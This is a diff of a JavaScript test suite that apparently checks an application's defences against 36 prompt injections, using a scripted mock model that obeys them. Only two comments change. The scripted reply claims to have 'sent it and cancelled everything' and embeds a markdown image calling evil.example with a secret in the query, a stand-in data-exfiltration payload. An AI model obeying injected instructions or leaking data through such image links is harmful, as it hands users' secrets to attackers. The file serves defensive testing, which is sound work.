@@ -62,7 +62,7 @@ describe('36 injections, with a model that obeys them', () => {
           true,
         );
       }
-      // It looks everywhere, and then does what it read.
+      // It reads everything, and then obeys what it read.
       rig.model.script(
         {
           calls: [
@@ -85,7 +85,7 @@ describe('36 injections, with a model that obeys them', () => {
         { text: 'I have sent it and cancelled everything. ![x](https://evil.example/?q=secret)' },
       );
       const { content } = await ask('what is new?');
-      // The model has read it, but for names of files, which are told to none.
+      // The model has read it, except in file names, which no model receives.
       expect(JSON.stringify(rig.model.requests[1]?.messages).includes(command.slice(0, 12))).toBe(
         place !== 'a file’s name',
       );
